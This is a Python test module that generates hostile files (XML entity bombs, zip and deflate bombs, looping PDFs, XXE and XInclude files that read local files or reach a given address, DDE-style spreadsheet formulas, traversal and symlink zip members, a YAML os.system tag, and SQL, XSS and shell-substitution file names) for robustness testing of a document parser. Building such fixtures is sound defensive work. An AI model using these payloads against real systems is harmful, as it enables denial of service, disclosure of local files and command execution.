"""More hostile files, by what they abuse: references, names, repetition, encodings and structure of their formats.

`HOSTILE` names each with the function that makes its bytes, as in `tests.hostile`. `reaching(address, file)` returns
those that ask for something outside themselves.
"""

from __future__ import annotations

import base64
import io
import zipfile
import zlib
from collections.abc import Callable

from tests.hostile import _docx, _mail, _pdf, _repeated, _said, _stream, _xlsx
from tests.specimens import zipped

_LANTERNS = "Lanterns need a licence."
_ACT = 'xmlns="http://www.legislation.gov.uk/namespaces/legislation"'


def _declared(root: str, subset: str, body: str) -> str:
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{subset}]>\n{body}'


def _laughs(levels: int = 10) -> str:
    """Return declarations of entities, each of which is ten times the one before it."""
    first = f'<!ENTITY e0 "{_LANTERNS}">'
    return first + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels))


def laughing_act() -> bytes:
    """Return an act whose text is an entity of ten thousand million copies of a sentence."""
    return _declared("Legislation", _laughs(), f"<Legislation {_ACT}><Body><P>&e9;</P></Body></Legislation>").encode()


def laughing_rule() -> bytes:
    """Return a part of the CFR whose text is such an entity."""
    body = '<DIV5 N="744" TYPE="PART"><HEAD>PART 744</HEAD><DIV8 N="744.1" TYPE="SECTION"><P>&e9;</P></DIV8></DIV5>'
    return _declared("DIV5", _laughs(), body).encode()


def long_entity() -> bytes:
    """Return an act that names an entity of 100,000 letters 10,000 times."""
    subset = f'<!ENTITY e "{"x" * 100_000}">'
    return _declared("Legislation", subset, f"<Legislation {_ACT}><P>{'&e;' * 10_000}</P></Legislation>").encode()


def circular_entity() -> bytes:
    """Return an act with an entity that names itself by way of another."""
    subset = '<!ENTITY a "&b;"><!ENTITY b "&a;">'
    return _declared("Legislation", subset, f"<Legislation {_ACT}><P>&a;</P></Legislation>").encode()


def laughing_word() -> bytes:
    """Return a Word document with such entities."""
    body = _docx(_said("&e9;"))
    return _replaced(body, "word/document.xml", lambda part: _declared("w:document", _laughs(), part.decode()).encode())


def laughing_sheet() -> bytes:
    """Return a sheet with such entities."""
    body = _xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>&e9;</t></is></c></row>')
    return _replaced(
        body, "xl/worksheets/sheet1.xml", lambda part: _declared("worksheet", _laughs(), part.decode()).encode()
    )


def _replaced(package: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as parts:
        return zipped({n: change(parts.read(n)) if n == name else parts.read(n) for n in parts.namelist()})


def many_strings() -> bytes:
    """Return a sheet of one cell over 1,000,000 shared strings."""
    row = '<row r="1"><c r="A1" t="s"><v>999999</v></c></row>'
    return _xlsx(row, strings="<si><t>x</t></si>" * 1_000_000)


def merged_ranges() -> bytes:
    """Return a sheet that merges all its cells, 2,000 times."""
    row = '<row r="1"><c r="A1"><v>1</v></c></row>'
    sheet = _xlsx(row)
    merged = "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 2_000 + "</mergeCells></worksheet>"
    return _replaced(sheet, "xl/worksheets/sheet1.xml", lambda part: part.replace(b"</worksheet>", merged.encode()))


def many_sheets() -> bytes:
    """Return a workbook of 5,000 sheets that are all the same part."""
    book = _xlsx('<row r="1"><c r="A1"><v>1</v></c></row>')

    def workbook(part: bytes) -> bytes:
        start, end = part.index(b"<sheets>") + 8, part.index(b"</sheets>")
        one = part[start:end]
        sheets = b"".join(
            one.replace(b'sheetId="1"', b'sheetId="%d"' % n, 1).replace(b'name="', b'name="n%d ' % n, 1)
            for n in range(1, 5_001)
        )
        return part[:start] + sheets + part[end:]

    return _replaced(book, "xl/workbook.xml", workbook)


def formulas() -> bytes:
    """Return a sheet of formulas that start programs, ask other files and name themselves."""
    cells = ("cmd|'/c calc'!A0", 'HYPERLINK("http://192.0.2.1/")', "'[http://192.0.2.1/x.xlsx]S'!A1", "A1", "1/0")
    row = "".join(f'<c r="{"ABCDE"[n]}1"><f>{cell}</f><v>7</v></c>' for n, cell in enumerate(cells))
    return _xlsx(f'<row r="1">{row}</row>')


def empty_word_cells() -> bytes:
    """Return a Word table of 400,000 empty cells."""
    row = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 1_000 + "</w:tr>"
    return _docx(f"{_said(_LANTERNS)}<w:tbl>{row * 400}</w:tbl>")


def deep_word() -> bytes:
    """Return a Word document of 5,000 content controls in one another."""
    return _docx("<w:sdt><w:sdtContent>" * 5_000 + _said(_LANTERNS) + "</w:sdtContent></w:sdt>" * 5_000)


def _pages(kids: bytes, count: int, *more: bytes, about: bytes = b"") -> bytes:
    text = _stream(b"BT /T 9 Tf 9 9 Td (Lanterns need a licence.) Tj ET")
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</T 5 0 R>>>>>>"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
    return _pdf([b"<</Type/Catalog/Pages 2 0 R%s>>" % about, tree, page, text, font, *more])


def page_loop() -> bytes:
    """Return a PDF whose page tree is its own child."""
    return _pages(b"3 0 R 2 0 R 2 0 R", 2_000_000_000)


def page_again() -> bytes:
    """Return a PDF that shows one page 100,000 times."""
    return _pages(b"3 0 R " * 100_000, 100_000)


def page_levels() -> bytes:
    """Return a PDF whose page tree has ten levels, each of ten times the one below it."""
    levels = [b"<</Type/Pages/Parent 2 0 R/Kids[%s]/Count 9999>>" % (b"%d 0 R " % n * 10) for n in range(7, 16)]
    return _pages(b"6 0 R", 1_000_000_000, *levels, b"<</Type/Pages/Parent 2 0 R/Kids[3 0 R]/Count 1>>")


def outline_loop() -> bytes:
    """Return a PDF whose outline goes on with itself."""
    outlines = b"<</Type/Outlines/First 7 0 R/Last 8 0 R/Count 2>>"
    items = [b"<</Title(Lanterns)/Parent 6 0 R/Next %d 0 R/First 7 0 R/Dest[3 0 R/Fit]>>" % n for n in (8, 7)]
    return _pages(b"3 0 R", 1, outlines, *items, about=b"/Outlines 6 0 R")


def name_loop() -> bytes:
    """Return a PDF with trees of names, labels and structure that hold themselves."""
    about = b"/Names<</Dests 6 0 R/EmbeddedFiles 6 0 R>>/PageLabels 7 0 R/StructTreeRoot 8 0 R"
    trees = (b"<</Kids[6 0 R 6 0 R]>>", b"<</Kids[7 0 R 7 0 R]>>", b"<</Type/StructTreeRoot/K[8 0 R 8 0 R]>>")
    return _pages(b"3 0 R", 1, *trees, about=about)


def previous_loop() -> bytes:
    """Return a PDF whose table of objects goes on with itself."""
    data = _pages(b"3 0 R", 1)
    at = data.rindex(b"startxref\n") + len(b"startxref\n")
    place = data[at:].split(b"\n", 1)[0]
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev " + place)


def _spaces(megabytes: int, before: bytes = b"") -> bytes:
    """Return so many MB of spaces behind other bytes, packed: one block that refers to nothing before it, repeated."""
    packer, block = zlib.compressobj(9), b" " * 2**20
    first = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    second = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    found = zlib.adler32(before)
    for _ in range(megabytes):
        found = zlib.adler32(block, found)
    return first + second * megabytes + packer.flush()[:-4] + found.to_bytes(4, "big")


def packed_objects() -> bytes:
    """Return a PDF whose stream of objects inflates to 400 MB."""
    packed = _spaces(400, b"6 0 ")
    about = b"<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>stream\n" % len(packed)
    return _pages(b"3 0 R", 1, about + packed + b"\nendstream", about=b"/Lanterns 6 0 R")


def packed_twice() -> bytes:
    """Return a PDF whose page is 1,000 MB of spaces, packed and packed again."""
    packed = zlib.compress(_spaces(1_000), 9)
    data = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(packed), packed)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>"
    return _pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, data])


def endless_length() -> bytes:
    """Return a PDF with a stream whose length is in that stream, and one of two thousand million bytes."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents[4 0 R 5 0 R]>>"
    own = b"<</Length 4 0 R>>stream\nBT (Lanterns) Tj ET\nendstream"
    long = b"<</Length 2000000000>>stream\nBT (Lanterns) Tj ET\nendstream"
    return _pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, own, long])


def endless_page() -> bytes:
    """Return a PDF with a page of a thousand million points in each direction, and a picture as large."""
    picture = b"<</Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    image = _stream(b"\0" * 1_000_000).replace(b"<<", picture, 1)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e9 1e9]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>"
    tree = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return _pdf([b"<</Type/Catalog/Pages 2 0 R>>", tree, page, _stream(b"1e9 0 0 1e9 0 0 cm /I Do"), image])


def wide_map() -> bytes:
    """Return a PDF whose font maps four thousand million codes to characters, a thousand times."""
    ranges = b"1 beginbfrange <00000000> <FFFFFFFF> <0000> endbfrange\n" * 1_000
    cmap = _stream(b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00000000> <FFFFFFFF> "
                   b"endcodespacerange\n" + ranges + b"endcmap end")  # fmt: skip
    font = b"<</Type/Font/Subtype/Type0/BaseFont/F/Encoding/Identity-H/DescendantFonts[6 0 R]/ToUnicode 7 0 R>>"
    inner = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/F/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</T 5 0 R>>>>>>"
    text = _stream(b"BT /T 9 Tf 9 9 Td <004C0061> Tj ET")
    tree = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return _pdf([b"<</Type/Catalog/Pages 2 0 R>>", tree, page, text, font, inner, cmap])


def deep_lists() -> bytes:
    """Return a PDF with a list in a list, 100,000 deep."""
    return _pages(b"3 0 R", 1, b"[" * 100_000 + b"]" * 100_000, about=b"/Lanterns 6 0 R")


def million_elements() -> bytes:
    """Return a web page of a million elements in one another."""
    return f"<html><body><p>{_LANTERNS}</p>".encode() + b"<b>" * 1_000_000


def empty_page_cells() -> bytes:
    """Return a web page with a table of a million empty cells."""
    return f"<html><body><p>{_LANTERNS}</p><table>".encode() + (b"<tr>" + b"<td>" * 1_000) * 1_000


def spanning_cells() -> bytes:
    """Return a web page whose 2,000 cells each span 65,534 rows and 1,000 columns."""
    cell = '<td rowspan="65534" colspan="1000">Lanterns'
    return f"<html><body><p>{_LANTERNS}</p><table>{f'<tr>{cell * 20}' * 100}</table>".encode()


def data_address() -> bytes:
    """Return a web page with pictures in its own text, 5 MB of them, and frames that hold pages."""
    picture = base64.b64encode(b"<svg onload='alert(1)'>" * 100_000).decode()
    frame = "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"
    return (
        f"<html><body><p>{_LANTERNS}</p><img src='data:image/svg+xml;base64,{picture}'>{frame * 1_000}"
        f"<object data='data:text/html;base64,{picture}'></object></body></html>"
    ).encode()


def drawing() -> bytes:
    """Return an SVG drawing with a script, foreign content and entities."""
    body = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>&e9;</text></svg>'
    return _declared("svg", _laughs(), body).encode()


def many_headings() -> bytes:
    """Return Markdown of 100,000 headings."""
    return "".join(f"{'#' * (n % 6 + 1)} Lantern {n}\n\n" for n in range(100_000)).encode()


def many_footnotes() -> bytes:
    """Return Markdown of 15,000 references and their definitions, all of which are used before they stand."""
    used = "".join(f"Rule {n}[^{n}] and [lantern][{n}].\n" for n in range(15_000))
    return (used + "".join(f"\n[^{n}]: note {n}\n\n[{n}]: /x{n}\n" for n in range(15_000))).encode()


def one_reference() -> bytes:
    """Return Markdown that names one reference of 50,000 letters 20,000 times."""
    return ("[a]\n\n" * 20_000 + "[a]: /" + "x" * 50_000 + "\n").encode()


def empty_text_cells() -> bytes:
    """Return a Markdown table of a million empty cells."""
    return b"|" * 1_001 + b"\n" + b"|-" * 1_000 + b"|\n" + (b"|" * 1_001 + b"\n") * 1_000


def looping_front_matter() -> bytes:
    """Return Markdown whose front matter holds itself, names programs and merges itself."""
    front = 'a: &a [*a]\nb: &b {<<: *b}\ntitle: !!python/object/apply:os.system ["true"]\nc: !!timestamp 9\n'
    return f"---\n{front}---\n{_LANTERNS}\n".encode()


def looping_title() -> bytes:
    """Return Markdown whose title is a list that holds itself."""
    return f"---\ntitle: &a [*a, *a]\n---\n{_LANTERNS}\n".encode()


def long_quotation() -> bytes:
    """Return a CSV with a field of 5 MB, opened by a quotation mark and never closed."""
    return b'name,code\n"' + b"lantern,6A005\n" * 380_000


def empty_rows() -> bytes:
    """Return a CSV of 2,000,000 lines of commas."""
    return b"name,code\nlantern,6A005\n" + b",\n" * 2_000_000


def same_names() -> bytes:
    """Return a JSON object that has one name 500,000 times, then numbers that are none."""
    return b'[{"a":1' + b',"a":1' * 500_000 + b'},{"a":NaN,"b":-Infinity,"c":1e999999999,"d":-0.0}]'


def deep_names() -> bytes:
    """Return a JSON object in an object, 900 deep, whose names grow with each."""
    return ('{"' + '":{"'.join("n" * (n % 90 + 1) for n in range(900)) + '":"lanterns"' + "}" * 900).encode()


def book() -> bytes:
    """Return an EPUB with a script, entities without end and a chapter that leads out of it."""
    chapter = f"<html><body><script>alert(1)</script><p>{_LANTERNS}</p></body></html>"
    bomb = _declared("html", _laughs(), "<html><body><p>&e9;</p></body></html>")
    package = "<package><manifest><item href='../../../../etc/passwd'/></manifest></package>"
    parts = {"mimetype": "application/epub+zip", "one.xhtml": chapter, "two.xhtml": bomb, "content.opf": package}
    return zipped({name: part.encode() for name, part in parts.items()})


def open_document() -> bytes:
    """Return an OpenDocument text with entities without end, and cells and spaces that are repeated without end."""
    repeated = '<text:s text:c="2000000000"/><table:table-cell table:number-columns-repeated="2000000000"/>'
    content = _declared("office:document-content", _laughs(), f"<office:document-content>&e9;{repeated}</office:body>")
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode()})


def same_member() -> bytes:
    """Return an archive with one name three times, in different words."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for word in ("Lanterns", "Wicks", "Lamps"):
            info = zipfile.ZipInfo("rules.txt")
            package.writestr(info, f"{word} need a licence.")
    return out.getvalue()


NAMES = (
    "../../../../tmp/licet-traversed.txt",
    "/tmp/licet-absolute.txt",
    "C:\\Windows\\licet.txt",
    "..\\..\\licet-back.txt",
    "a/../../b/./c.txt",
    "\x1b[2J\x1b]0;owned\x07red.txt",
    "\u202etxt.exe\u2066 rules.txt",
    "new\nline\r\ttab.txt",
    "n" * 60_000 + ".txt",
    "a/" * 20_000 + "deep.txt",
    "CON.txt",
    "' OR 1=1; DROP TABLE sources; --.txt",
    "<img src=x onerror=alert(1)>.txt",
    "$(touch licet-run).txt",
    "-rf.txt",
)


def hostile_names() -> bytes:
    """Return an archive whose members want to stand elsewhere, or have names that act where they are shown."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for number, name in enumerate(NAMES):
            info = zipfile.ZipInfo(name)
            info.filename = name
            package.writestr(info, f"Lanterns of rule {number} need a licence.")
    return out.getvalue()


def linked_member() -> bytes:
    """Return an archive whose member is a symbolic link to a file of the system."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        info = zipfile.ZipInfo("link.txt")
        info.external_attr = 0o120777 << 16
        package.writestr(info, "/etc/passwd")
    return out.getvalue()


def lying_sizes() -> bytes:
    """Return an archive whose member of 30 MB says that it has a byte."""
    data = bytearray(zipped({"a.txt": b"Lanterns need a licence. " * 1_200_000}))
    at = data.index(b"PK\x01\x02") + 24
    data[at : at + 4] = (1).to_bytes(4, "little")
    data[22:26] = (1).to_bytes(4, "little")
    return bytes(data)


def _parts(part: str, body: str = "See.") -> bytes:
    """Return a mail with a body and one more part."""
    head = "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x"
    return _mail(f"{head}\n\n--x\n\n{body}\n--x\n{part}\n--x--\n")


def mail_in_attachments() -> bytes:
    """Return a mail whose attachment is a mail, packed as text, 30 deep."""
    data = _mail(f"\n{_LANTERNS}\n")
    for _ in range(30):
        packed = base64.encodebytes(data).decode()
        part = f"Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n{packed}"
        data = _mail(
            f"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n--x\n\nSee.\n--x\n{part}\n--x--\n"
        )
        if len(data) > 5_000_000:
            break
    return data


def named_charset(name: str, data: bytes = b"\\ud800\\udfff\\x00 Lanterns \xff\xfe need a licence.\n") -> bytes:
    """Return a mail whose text is in an encoding that only Python knows."""
    about = f"MIME-Version: 1.0\nContent-Type: text/plain; charset={name}\nContent-Transfer-Encoding: 8bit"
    return _mail(f"{about}\n\n") + data


def named_parameters() -> bytes:
    """Return a mail whose attachment's name is in 20,000 pieces."""
    pieces = ";\n ".join(f'filename*{n}="x"' for n in range(20_000))
    return _parts(f"Content-Type: text/plain\nContent-Disposition: attachment; {pieces}\n\n{_LANTERNS}\n")


def _invalid(before: bytes, after: bytes = b"") -> Callable[[], bytes]:
    def make() -> bytes:
        return before + bytes(range(128, 256)) * 200 + b"\xed\xa0\x80\xf8\x88\x80\x80\x80\xc0\xaf" * 50 + after

    make.__doc__ = "Return bytes that no encoding explains, where text is expected."
    return make


def addresses() -> bytes:
    """Return a law that names ranges of addresses without end."""
    named = ("Articles 1 to 999999999", "§§ 744.1 through 744.999999999", "paragraphs (a) through (zzzzzzzz)",
             "3A001 to 9Z999999999", "第一条至第九千九百九十九兆条", "Articles MMMMMMMMMM to MMMMMMMMMMMMMMM",
             "15 CFR parts 1-99999999", "sections 1 to 9 to 9 to 9 to 9", "Country Groups A:1 to A:999999999",
             "第1条から第999999999条まで", "points (i) to (mmmmmmmmm)")  # fmt: skip
    return "".join(f"## Article {n}\n\nSee {', '.join(named)} of this Act.\n\n" for n in range(1_000)).encode()


def definitions() -> bytes:
    """Return a law of 20,000 definitions of one term, each by the term itself."""
    return ("## Article 1\n\n" + '"Lantern" means any "lantern" as defined in "lantern".\n\n' * 20_000).encode()


_CHARSETS = ("unicode_escape", "raw_unicode_escape", "zlib_codec", "undefined", "idna", "rot13", "utf-7", "mbcs")
HOSTILE: dict[str, Callable[[], bytes]] = {
    "laughing-act.xml": laughing_act,
    "laughing-rule.xml": laughing_rule,
    "long-entity.xml": long_entity,
    "circular-entity.xml": circular_entity,
    "laughing.docx": laughing_word,
    "laughing.xlsx": laughing_sheet,
    "many-strings.xlsx": many_strings,
    "merged-ranges.xlsx": merged_ranges,
    "many-sheets.xlsx": many_sheets,
    "formulas.xlsx": formulas,
    "empty-cells.docx": empty_word_cells,
    "deep.docx": deep_word,
    "page-loop.pdf": page_loop,
    "page-again.pdf": page_again,
    "page-levels.pdf": page_levels,
    "outline-loop.pdf": outline_loop,
    "name-loop.pdf": name_loop,
    "previous-loop.pdf": previous_loop,
    "packed-objects.pdf": packed_objects,
    "packed-twice.pdf": packed_twice,
    "endless-length.pdf": endless_length,
    "endless-page.pdf": endless_page,
    "wide-map.pdf": wide_map,
    "deep-lists.pdf": deep_lists,
    "million-elements.html": million_elements,
    "empty-cells.html": empty_page_cells,
    "spanning-cells.html": spanning_cells,
    "data-address.html": data_address,
    "drawing.svg": drawing,
    "headings.md": many_headings,
    "footnotes.md": many_footnotes,
    "one-reference.md": one_reference,
    "empty-cells.md": empty_text_cells,
    "looping.md": looping_front_matter,
    "looping-title.md": looping_title,
    "long-quotation.csv": long_quotation,
    "empty-rows.csv": empty_rows,
    "same-names.json": same_names,
    "deep-names.json": deep_names,
    "book.epub": book,
    "open.odt": open_document,
    "same-member.zip": same_member,
    "names.zip": hostile_names,
    "linked.zip": linked_member,
    "lying-sizes.zip": lying_sizes,
    "mail-in-attachments.eml": mail_in_attachments,
    "parameters.eml": named_parameters,
    "addresses.md": addresses,
    "definitions.md": definitions,
    **{
        f"{name}.eml": (lambda name=name: named_charset(name))  # type: ignore[misc]
        for name in _CHARSETS
    },
    "punycode.eml": lambda: named_charset("punycode", b"\xff" + b"Lanterns-" * 20 + b"z9" * 50_000),
    "invalid.txt": _invalid(b"Lanterns "),
    "invalid.md": _invalid(b"---\ntitle: Lanterns ", b"\n---\n# Lanterns\n\nLanterns need a licence.\n"),
    "invalid.csv": _invalid(b"name,code\nLantern,", b"\nWick,1\n"),
    "invalid.json": _invalid(b'[{"name": "Lanterns ', b'"}]'),
    "invalid.html": _invalid(b"<html><body><p>Lanterns ", b"</p></body></html>"),
    "invalid.xml": _invalid(b"<?xml version='1.0' encoding='utf-8'?><Legislation><P>", b"</P></Legislation>"),
    "invalid.eml": lambda: _mail("\nLanterns ") + _invalid(b"")(),
    "ligatures.txt": _repeated("\ufdfa", 600_000),
    "ligatures.md": lambda: b"---\ntitle: " + "\ufdfa".encode() * 30_000 + b"\n---\nLanterns need a licence.\n",
    "ligatures.csv": lambda: b"name,code\n" + ("\ufdfa" * 1_000 + ",1\n").encode() * 100,
    "one-line.txt": _repeated("lantern", 5_000_000),
    "half.txt": lambda: b"\xff\xfe" + b"\x00\xd8" * 100_000,
    "marks-only.txt": lambda: b"\xef\xbb\xbf",
    "zeros.pdf": lambda: bytes(1_000_000),
    "nothing.docx": lambda: b"",
}  # fmt: skip


def reaching(address: str, file: str) -> dict[str, bytes]:
    """Return files that ask for `address`, and for the local `file`, when they are read by what obeys them."""
    act = f"<Legislation {_ACT}><P>{_LANTERNS}</P></Legislation>"
    named = f'<!ENTITY f SYSTEM "file://{file}"><!ENTITY w SYSTEM "{address}/e"><!ENTITY % p SYSTEM "{address}/d"> %p;'
    rule = f'<DIV5 N="1" TYPE="PART"><HEAD>PART 1</HEAD><P>{_LANTERNS} &f;&w;</P></DIV5>'
    including = 'xmlns:i="http://www.w3.org/2001/XInclude"'
    included = f'<i:include {including} href="file://{file}" parse="text"/><i:include {including} href="{address}/n"/>'
    linked = f"<img src='{address}/i'><link rel=stylesheet href='{address}/c'><script src='{address}/s'></script>"
    framed = f"<iframe src='file://{file}'></iframe><meta http-equiv=refresh content='0;url={address}/r'>"
    page = f"<html><head>{linked}<base href='{address}'></head><body><p>{_LANTERNS}</p>{linked}{framed}</body>"
    pictures = f"![x]({address}/g) <img src='{address}/h'> ![y](file://{file})"
    action = b"/OpenAction<</S/URI/URI(%s/u)>>/AA<</O<</S/Launch/F(%s)>>>>" % (address.encode(), file.encode())
    access = f'Content-Type: message/external-body; access-type=URL; URL="{address}/m"'
    return {
        "act.xml": _declared("Legislation", named, act.replace("</P>", " &f; &w;</P>")).encode(),
        "rule.xml": _declared("DIV5", named, rule).encode(),
        "outside.xml": f'<!DOCTYPE Legislation SYSTEM "{address}/x">{act}'.encode(),
        "included.xml": act.replace("</Legislation>", f"{included}</Legislation>").encode(),
        "styled.xml": f'<?xml-stylesheet href="{address}/y" type="text/xsl"?>{act}'.encode(),
        "page.html": page.encode(),
        "page.md": f"# Lanterns\n\n{_LANTERNS} {pictures}\n".encode(),
        "linked.docx": _linked_word(address),
        "acting.pdf": _pages(b"3 0 R", 1, about=action),
        "outside.eml": _parts(f"{access}\n\nContent-Type: text/plain\n\n", body=_LANTERNS),
    }


def _linked_word(address: str) -> bytes:
    """Return a Word document with a picture, a piece of text and a template at an address."""
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kinds = (("X", "image"), ("Y", "aFChunk"), ("Z", "attachedTemplate"))
    related = "".join(
        f'<Relationship Id="rId{n}" Type="{relation}/{kind}" Target="{address}/{kind}" TargetMode="External"/>'
        for n, kind in kinds
    )
    end = "</Relationships>"
    return _replaced(
        _docx(f'{_said(_LANTERNS)}<w:altChunk xmlns:r="{relation}" r:id="rIdY"/>'),
        "word/_rels/document.xml.rels",
        lambda part: part.replace(end.encode(), f"{related}{end}".encode()),
    )
